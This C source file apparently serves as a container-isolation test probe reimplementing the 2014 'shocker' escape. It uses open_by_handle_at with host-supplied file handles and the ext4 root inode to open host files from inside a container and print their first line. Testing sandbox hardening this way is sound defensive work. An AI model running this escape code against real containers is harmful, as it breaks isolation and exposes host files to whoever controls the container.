/* "shocker" (2014): open a host file by its handle, bypassing the container's root, with
 * open_by_handle_at (needs CAP_DAC_READ_SEARCH; Docker's seccomp profile also blocks it).
 *
 *   shocker handle PATH            (on the host) print PATH's handle: "<type> <hex bytes>"
 *   shocker attack TYPE HEX        (in the container) name_to_handle_at on "/", then
 *                                  open_by_handle_at(TYPE, HEX) with "/" as mount fd: reading the
 *                                  file would be the escape; prints its first line if it worked.
 *                                  Also tries ext4's root inode (2) the classic way.
 */
#include "common.h"
#include <fcntl.h>
#include <stddef.h>
#include <stdlib.h>

struct handle {
	struct file_handle fh;
	unsigned char buf[128]; /* f_handle's storage */
};

/* f_handle is a flexible array: reach its bytes through a pointer. */
static unsigned char *bytes(struct handle *h)
{
	return (unsigned char *)h + offsetof(struct file_handle, f_handle);
}

static int unhex(const char *s, unsigned char *out, int max)
{
	int n = 0;
	for (; s[0] && s[1] && n < max; s += 2)
		sscanf(s, "%2hhx", &out[n++]);
	return n;
}

static void try_open(const char *label, int mount_fd, struct handle *h)
{
	char name[64], line[256] = "";
	int fd = open_by_handle_at(mount_fd, &h->fh, O_RDONLY);

	snprintf(name, sizeof name, "%s-open", label);
	if (step(name, fd) == 0) {
		ssize_t n = read(fd, line, sizeof line - 1);
		if (n > 0) {
			line[n] = 0;
			line[strcspn(line, "\n")] = 0;
		}
		printf("%s-read %s\n", label, line);
		close(fd);
	}
	snprintf(name, sizeof name, "%s-open-write", label);
	fd = open_by_handle_at(mount_fd, &h->fh, O_WRONLY | O_APPEND);
	step(name, fd); /* nothing is written: an open for writing is already the breach */
	if (fd >= 0)
		close(fd);
}

int main(int argc, char **argv)
{
	struct handle h;
	int mount_id, root;

	if (argc == 3 && strcmp(argv[1], "handle") == 0) {
		h.fh.handle_bytes = sizeof h.buf;
		if (name_to_handle_at(AT_FDCWD, argv[2], &h.fh, &mount_id, 0) < 0)
			return perror("name_to_handle_at"), 1;
		printf("%d ", h.fh.handle_type);
		for (unsigned i = 0; i < h.fh.handle_bytes; i++)
			printf("%02x", bytes(&h)[i]);
		printf("\n");
		return 0;
	}
	if (argc != 4 || strcmp(argv[1], "attack") != 0) {
		fprintf(stderr, "usage: shocker handle PATH | shocker attack TYPE HEX\n");
		return 2;
	}
	root = open("/", O_RDONLY | O_DIRECTORY);
	h.fh.handle_bytes = sizeof h.buf;
	step("name-to-handle-root", name_to_handle_at(AT_FDCWD, "/", &h.fh, &mount_id, 0));
	/* The host file, by the handle the host gave us. */
	h.fh.handle_type = atoi(argv[2]);
	h.fh.handle_bytes = (unsigned)unhex(argv[3], bytes(&h), sizeof h.buf);
	try_open("host-file", root, &h);
	/* The classic: ext4 inode 2 (the filesystem's root directory), generation 0. */
	h.fh.handle_type = 1; /* FILEID_INO32_GEN */
	h.fh.handle_bytes = 8;
	memset(bytes(&h), 0, 8);
	bytes(&h)[0] = 2;
	int fd = open_by_handle_at(root, &h.fh, O_RDONLY | O_DIRECTORY);
	step("fs-root-open", fd);
	return 0;
}
